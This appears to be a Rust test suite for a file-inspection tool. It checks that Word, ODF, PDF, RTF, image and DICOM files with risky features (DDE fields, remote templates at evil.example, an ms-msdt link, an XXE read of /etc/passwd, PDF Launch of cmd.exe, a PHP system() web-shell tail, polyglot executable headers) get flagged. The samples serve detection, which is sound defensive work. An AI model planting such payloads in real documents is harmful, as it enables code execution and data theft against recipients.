//! Documents: Office, PDF, rich text, pictures and DICOM.

use image::ImageFormat;
use inspect::FindingId as Id;

use super::make::{dicom, docx, odt, pdf, picture, png, program, relationship};
use super::trick;

const PLAIN: &str = "<w:p><w:r><w:t>text</w:t></w:r></w:p>";

#[test]
fn word_documents_that_reach_out() {
    let twin = docx(PLAIN, &relationship("hyperlink", "https://example.jp/", "External"), &[]);
    for (kind, id) in [
        ("attachedTemplate", Id::ExternalTemplate),
        ("oleObject", Id::OleObject),
        ("frame", Id::ExternalPart),
        ("image", Id::ExternalPart),
        ("subDocument", Id::ExternalPart),
        ("aFChunk", Id::AltChunk),
        ("externalLinkPath", Id::ExternalWorkbook),
    ] {
        trick(
            "a.docx",
            &twin,
            &docx(PLAIN, &relationship(kind, "https://evil.example/t.dotm", "External"), &[]),
            id,
        );
    }
    // The mode may lie: an address is no part of the package.
    trick(
        "a.docx",
        &twin,
        &docx(PLAIN, &relationship("image", "//evil.example/x", "Internal"), &[]),
        Id::ExternalPart,
    );
    trick(
        "a.docx",
        &twin,
        &docx(PLAIN, &relationship("hyperlink", "ms-msdt:/id", "External"), &[]),
        Id::ActionSetting,
    );
}

#[test]
fn word_documents_that_act() {
    let twin = docx("<w:p><w:fldSimple w:instr=\" PAGE \"/></w:p>", "", &[("word/media/a.png", &png())]);
    let split = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DEAUTO c:\\x</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
    let quoted = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:instrText>QUOTE 68 68 69</w:instrText><w:fldChar w:fldCharType=\"end\"/>";
    for (body, id) in [
        ("<w:fldSimple w:instr=\"DDE cmd\"/>", Id::Dde),
        (split, Id::Dde),
        (quoted, Id::ActiveField),
        ("<w:fldSimple w:instr=\"INCLUDEPICTURE http://e/x\"/>", Id::ActiveField),
        ("<w:altChunk/>", Id::AltChunk),
        ("<o:OLEObject/>", Id::OleObject),
        ("<w:control/>", Id::Activex),
    ] {
        trick("a.docx", &twin, &docx(body, "", &[]), id);
    }
    for (path, data, id) in [
        ("word/vbaProject.bin", &b"x"[..], Id::VbaMacro),
        ("word/embeddings/a.bin", b"x", Id::OleObject),
        ("customUI/customUI.xml", b"<customUI/>", Id::CustomUi),
        ("word/media/a.png", &program(), Id::Executable),
        ("word/media/run.js", b"x", Id::Script),
        (
            "docProps/x.xml",
            b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
            Id::XmlDoctype,
        ),
    ] {
        trick("a.docx", &twin, &docx(PLAIN, "", &[(path, data)]), id);
    }
}

#[test]
fn open_documents() {
    let twin = odt("<text:p>text</text:p>", "", &[]);
    for (content, id) in [
        ("<draw:object xlink:href=\"./Object 1\"/>", Id::OleObject),
        ("<script:event-listener/>", Id::OdfEvent),
        ("<text:script/>", Id::OdfMacro),
        ("<text:a xlink:href=\"vnd.sun.star.script:x\"/>", Id::OdfEvent),
        ("<table:dde-link/>", Id::Dde),
        ("<draw:image xlink:href=\"https://evil.example/a.png\"/>", Id::ExternalPart),
        ("<text:section-source xlink:href=\"x\"/>", Id::ExternalPart),
    ] {
        trick("a.odt", &twin, &odt(content, "", &[]), id);
    }
    trick("a.odt", &twin, &odt("", "", &[("Basic/Standard/Module1.xml", b"<a/>")]), Id::OdfMacro);
    trick(
        "a.odt",
        &twin,
        &odt("", "<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>", &[]),
        Id::Encrypted,
    );
}

#[test]
fn pdf_files() {
    let twin = pdf("/OpenAction [3 0 R /Fit]", &["<< /S /URI /URI (https://example.jp/) >>"]);
    for (catalog, object, id) in [
        ("/OpenAction 4 0 R", "<< /S /JavaScript /JS (app.alert(1)) >>", Id::PdfJavascript),
        ("", "<< /S /J#61vaScript /J#53 (x) >>", Id::PdfJavascript),
        ("/AA << /WC 4 0 R >>", "<< /S /Named /N /Print >>", Id::PdfAdditionalActions),
        ("/OpenAction << /S /URI /URI (http://e/) >>", "null", Id::PdfOpenAction),
        ("", "<< /S /Launch /F (cmd.exe) >>", Id::PdfLaunch),
        ("", "<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>", Id::PdfGotoRemote),
        ("", "<< /S /SubmitForm /F (http://e/) >>", Id::PdfForm),
        ("/Names << /EmbeddedFiles << /Names [] >> >>", "null", Id::PdfEmbeddedFile),
        ("/AcroForm << /Fields [] /XFA [(a) 4 0 R] >>", "null", Id::PdfXfa),
        ("", "<< /Type /Annot /Subtype /RichMedia >>", Id::PdfRichMedia),
        ("", "<< /S /URI /URI (javascript:alert\\(1\\)) >>", Id::PdfJavascript),
    ] {
        trick("a.pdf", &twin, &pdf(catalog, &[object]), id);
    }
    // A revision that the last table no longer lists.
    let hidden =
        [b"%PDF-1.7\n9 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n".to_vec(), pdf("", &[])[9..].to_vec()];
    let report = super::judge("a.pdf", &hidden.concat());
    assert!(report.verdict >= inspect::Verdict::Disarm, "{:?}", report.findings);
    trick("a.pdf", &twin, &[b"<script>alert(1)</script>".to_vec(), twin.clone()].concat(), Id::Polyglot);
    trick("a.pdf", &twin, &[twin.clone(), vec![b'x'; 100]].concat(), Id::ForeignBytes);
    let encrypted =
        String::from_utf8(twin.clone()).unwrap().replace("/Root 1 0 R", "/Root 1 0 R /Encrypt 4 0 R");
    trick("a.pdf", &twin, encrypted.as_bytes(), Id::Encrypted);
}

#[test]
fn rich_text() {
    let twin = b"{\\rtf1\\ansi{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}} text}";
    for (text, id) in [
        (&b"{\\rtf1{\\object\\objocx{\\*\\objdata 0105}}}"[..], Id::RtfObject),
        (b"{\\rtf1{\\*\\template http://evil.example/x.dotm}}", Id::ExternalTemplate),
        (b"{\\rtf1{\\field{\\*\\fldinst { DDE}{AUTO c:\\\\x}}{\\fldrslt }}}", Id::Dde),
        (b"{\\rtf1{\\field{\\*\\fldinst \\'44\\'44E x}}}", Id::Dde),
        (b"{\\rtf1 text}MZ and more", Id::ForeignBytes),
        (b"{\\rtf1 {text}", Id::Malformed),
    ] {
        trick("a.rtf", twin, text, id);
    }
}

#[test]
fn pictures() {
    for (name, format) in
        [("a.png", ImageFormat::Png), ("a.jpg", ImageFormat::Jpeg), ("a.gif", ImageFormat::Gif)]
    {
        let twin = picture(format);
        trick(name, &twin, &[twin.clone(), b"PK and so on".to_vec()].concat(), Id::ForeignBytes);
        trick(name, &twin, &[twin.clone(), b"<?php system($_GET[0]);".to_vec()].concat(), Id::ImageScript);
        trick(name, &twin, &twin[..twin.len() - 4], Id::Malformed);
    }
    let bmp = picture(ImageFormat::Bmp);
    trick("a.bmp", &bmp, &[bmp.clone(), b"tail".to_vec()].concat(), Id::ForeignBytes);
    trick("a.png", &png(), &program(), Id::NameMismatch);
}

#[test]
fn dicom_files() {
    let patient: (u16, u16, &[u8; 2], &[u8]) = (0x0010, 0x0010, b"PN", b"Yamada^Taro ");
    let twin = dicom(&[], &[patient]);
    let pe = program();
    trick("a.dcm", &twin, &dicom(&pe[..128], &[patient]), Id::Polyglot);
    trick("a.dcm", &twin, &dicom(b"\x7fELF\x02\x01\x01", &[patient]), Id::Polyglot);
    trick("a.dcm", &twin, &dicom(b"#!/bin/sh\n", &[patient]), Id::Polyglot);
    trick("a.dcm", &twin, &dicom(b"II*\0\x08\0\0\0", &[patient]), Id::DicomPreamble);
    trick("a.dcm", &twin, &dicom(&[], &[patient, (0x0029, 0x1010, b"OB", &pe)]), Id::DicomPayload);
    trick(
        "a.dcm",
        &twin,
        &dicom(&[], &[(0x0042, 0x0011, b"OB", b"%PDF-1.4 and so on, padded out")]),
        Id::DicomDocument,
    );
    let pixels: (u16, u16, &[u8; 2], &[u8]) = (0x7fe0, 0x0010, b"OW", &[7; 64]);
    trick("a.dcm", &dicom(&[], &[patient, pixels]), &dicom(&[], &[pixels, patient]), Id::ForeignBytes);
    trick("a.dcm", &twin, &[twin.clone(), b"appended bytes".to_vec()].concat(), Id::Malformed);
    // A length of four gigabytes is looked at before it is believed.
    let mut long = dicom(&[], &[(0x0029, 0x1010, b"OB", b"1234")]);
    let at = long.len() - 8;
    long[at..at + 4].copy_from_slice(&0xe000_fffe_u32.to_le_bytes());
    trick("a.dcm", &twin, &long, Id::Malformed);
}
